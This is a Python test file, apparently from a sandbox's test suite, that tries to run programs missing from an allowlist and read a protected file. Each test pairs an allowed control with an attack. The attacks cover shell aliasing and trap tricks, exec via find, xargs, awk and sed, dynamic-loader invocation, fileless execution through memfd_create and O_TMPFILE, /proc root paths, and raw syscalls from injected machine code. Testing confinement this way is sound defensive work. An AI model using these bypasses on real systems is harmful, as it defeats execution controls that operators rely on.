"""Executing what is on no list. Each function is told a program and a file for it: for the control a program of the
list that prints the file, for the attack one that is on no list and runs it as code. Either prints `GOT` itself."""

import ctypes
import mmap
import os
import subprocess
import sys

from attack import X86, attempt, call, got, libc, main


def run(*command, **options):
    """Runs a command, whose output is ours."""
    sys.stdout.flush()
    return attempt(lambda: subprocess.run(command, timeout=10, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
                                          **options))


def fork_and(act):
    """Executes in a child, where success does not return."""
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        try:
            act()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def starting_perl_from_a_shell(evil, program, file):
    for line in (f"{program} {file}", f"exec {program} {file}", f"command {program} {file}", f"eval '{program} {file}'",
                 f"({program} {file}) | cat", f"x=$({program} {file}); echo $x", f"sh -c '{program} {file}'",
                 f"exec -a cat {program} {file}", f"trap '{program} {file}' EXIT", f"hash -p {program} cat; cat {file}",
                 f"alias cat={program}; shopt -s expand_aliases\ncat {file}", f"coproc {program} {file}; wait"):
        run("bash", "-c", line)


def starting_perl_by_exec_from_python(evil, program, file):
    words = [os.path.basename(program), file]
    fork_and(lambda: os.execv(program, words))
    fork_and(lambda: os.execvpe(words[0], words, {"PATH": "/usr/bin:/bin:/usr/sbin"}))
    fork_and(lambda: os.execve(os.open(program, os.O_PATH), words, {}))
    attempt(lambda: os.waitpid(os.posix_spawn(program, words, {}), 0))
    run(*words)
    os.system(f"{program} {file} 2> /dev/null")
    popen = attempt(os.popen, f"{program} {file} 2> /dev/null")
    print(popen.read() if popen else "", flush=True)


def starting_perl_with_find(evil, program, file):
    run("find", file, "-exec", program, "{}", ";")
    run("find", file, "-execdir", program, "{}", "+")


def starting_perl_with_xargs_and_env(evil, program, file):
    sys.stdout.flush()
    for command in (["xargs", program], ["xargs", "-I{}", program, "{}"], ["xargs", "env", program]):
        attempt(lambda: subprocess.run(command, input=file.encode(), stderr=subprocess.DEVNULL, timeout=10))
    for command in (["env", program, file], ["env", "-i", program, file], ["env", "-S", f"{program} {file}"],
                    ["timeout", "5", program, file], ["nice", program, file], ["nohup", program, file],
                    ["setsid", "-w", program, file], ["stdbuf", "-o0", program, file]):
        run(*command)


def starting_perl_with_awk_and_sed(evil, program, file):
    run("awk", f'BEGIN {{ system("{program} {file}") }}')
    run("awk", f'BEGIN {{ while (("{program} {file}" | getline x) > 0) print x }}')
    run("awk", f'BEGIN {{ print "" | "{program} {file}" }}')
    with open("line", "w") as lines:
        lines.write("x\n")
    run("sed", f"s|x|{program} {file}|e", "line")
    run("sed", f"1e {program} {file}", "line")


def starting_perl_as_an_interpreter(evil, program, file):
    """A script whose first line names the program."""
    script = f"script-{evil}"
    with open(script, "w") as lines:
        lines.write(f"#!{program}\n" + open(file).read())
    os.chmod(script, 0o755)
    # Scripts of the tree are not executed by themselves at any tier; the control names the interpreter.
    if not evil:
        run(program, script)
        return
    run(f"./{script}")
    fork_and(lambda: os.execv(script, [script]))
    run("bash", "-c", f"./{script}; . ./{script}; exec ./{script}")


def copies(program):
    """Names under which the program might be had in the tree."""
    for name, act in (
        ("./cat", lambda: open("cat", "wb").write(open(program, "rb").read())),
        ("./hard", lambda: os.link(program, "hard")),
        ("./soft", lambda: os.symlink(program, "soft")),
        ("./moved", lambda: os.rename("cat", "moved")),
    ):
        attempt(act)
        attempt(os.chmod, name, 0o755)
        yield name


def executing_a_copy_or_a_link_of_perl(evil, program, file):
    if not evil:
        run(program, file)
        return
    for name in copies(program):
        run(name, file)
    run("cp", program, "copied")
    run("bash", "-c", f"ln -s {program} python3; PATH=.:$PATH python3 {file}; chmod +x copied; ./copied {file}")


def executing_an_uploaded_program(evil, program, file):
    """`program` lies in the tree for the attack."""
    if evil:
        os.chmod(program, 0o755)
        program = "./" + program
    run(program, "-c", f"cat {file}") if evil else run(program, file)
    if evil:
        fork_and(lambda: os.execv(program, [program, "-c", f"cat {file}"]))
        fork_and(lambda: os.execve(os.open(program, os.O_RDONLY), [program, "-c", f"cat {file}"], {}))
        run("bash", "-c", f"exec {program} -c 'cat {file}'")
        for place in ("/tmp", "/dev/shm", "/var/tmp", os.environ["HOME"], os.environ["TMPDIR"]):
            copy = os.path.join(place, "mine")
            attempt(lambda: open(copy, "wb").write(open(program, "rb").read()))
            attempt(os.chmod, copy, 0o755)
            run(copy, "-c", f"cat {file}")


def loaders():
    for directory in ("/lib64", "/lib", "/usr/lib64", "/usr/lib", "/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu"):
        for name in attempt(os.listdir, directory) or []:
            if name.startswith("ld-linux") or name.startswith("ld-musl"):
                yield os.path.join(directory, name)


def loading_perl_with_the_dynamic_loader(evil, program, file):
    for loader in loaders():
        run(loader, program, file)
        run("bash", "-c", f"{loader} {program} {file}")
        run(loader, "--preload", "", program, file)
    if not evil:
        run(program, file)


def loading_an_uploaded_program_with_the_dynamic_loader(evil, program, file):
    for loader in loaders():
        run(loader, "./" + program if evil else program, *(["-c", f"cat {file}"] if evil else [file]))


def memory_files(program):
    """Files in memory that hold the program, by every flag that makes one."""
    data = open(program, "rb").read()
    for flags in (0, 1, 2, 3, 8, 0x10, 0x12):
        descriptor, _ = call("memfd_create", b"x", flags)
        if descriptor >= 0:
            os.write(descriptor, data)
            attempt(os.fchmod, descriptor, 0o755)
            yield descriptor


def executing_a_memory_file(evil, program, file):
    if not evil:
        run(program, file)
        return
    words = [program, "-c", f"cat {file}"]
    for descriptor in memory_files(program):
        fork_and(lambda: os.execve(descriptor, words, {"PATH": os.environ["PATH"]}))
        fork_and(lambda: os.execv(f"/proc/self/fd/{descriptor}", words))
        run("bash", "-c", f"/proc/self/fd/{descriptor} -c 'cat {file}'", pass_fds=[descriptor])


def loading_a_memory_file_with_the_dynamic_loader(evil, program, file):
    if not evil:
        run(program, file)
        return
    for descriptor in memory_files(program):
        for loader in loaders():
            run(loader, f"/proc/self/fd/{descriptor}", "-c", f"cat {file}", pass_fds=[descriptor])


def executing_a_file_without_a_name(evil, program, file):
    if not evil:
        run(program, file)
        return
    data = open(program, "rb").read()
    for directory in (".", os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm"):
        descriptor = attempt(os.open, directory, os.O_TMPFILE | os.O_RDWR, 0o755)
        if descriptor is None:
            continue
        os.write(descriptor, data)
        reader = attempt(os.open, f"/proc/self/fd/{descriptor}", os.O_RDONLY)
        if reader is None:
            continue
        os.close(descriptor)
        fork_and(lambda: os.execve(reader, [program, "-c", f"cat {file}"], {"PATH": os.environ["PATH"]}))


def naming_perl_through_proc(evil, program, file):
    if not evil:
        run(program, file)
        return
    for start in ("/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/cwd" + "/.." * 40, "/."):
        run(start + program, file)
        run("bash", "-c", f"{start}{program} {file}")


def running_a_program_that_changes_identity(evil, *programs):
    """Set-id programs, if any can be started at all."""
    if not evil:
        run("cat", "own")
        return
    for program in programs:
        output = run(program, "--version", capture_output=True) if False else attempt(
            lambda: subprocess.run([program, "--version"], capture_output=True, stdin=subprocess.DEVNULL, timeout=10))
        if output is not None:
            got(f"{program} ran")


def native(number, *args):
    """A system call made by machine code of our own in memory of our own."""
    if X86:
        # mov rax,rdi; mov rdi,rsi; mov rsi,rdx; mov rdx,rcx; mov r10,r8; mov r8,r9; syscall; ret
        code = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 4d89c8 0f05 c3".replace(" ", ""))
    else:
        words = (0xAA0003E8, 0xAA0103E0, 0xAA0203E1, 0xAA0303E2, 0xAA0403E3, 0xAA0503E4, 0xD4000001, 0xD65F03C0)
        code = b"".join(word.to_bytes(4, "little") for word in words)
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    function = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(address)
    return function(number, *args, *[0] * (5 - len(args)))


def leaving_the_walls_with_native_code(evil, path):
    """Machine code runs; what it can open is the question."""
    number = (257, 0) if X86 else (56, 63)
    name = ctypes.create_string_buffer(path.encode())
    descriptor = native(number[0], -100, ctypes.addressof(name), 0, 0)
    if descriptor < 0:
        return
    buffer = ctypes.create_string_buffer(100)
    native(number[1], descriptor, ctypes.addressof(buffer), 99)
    got(buffer.value)


if __name__ == "__main__":
    main(globals())
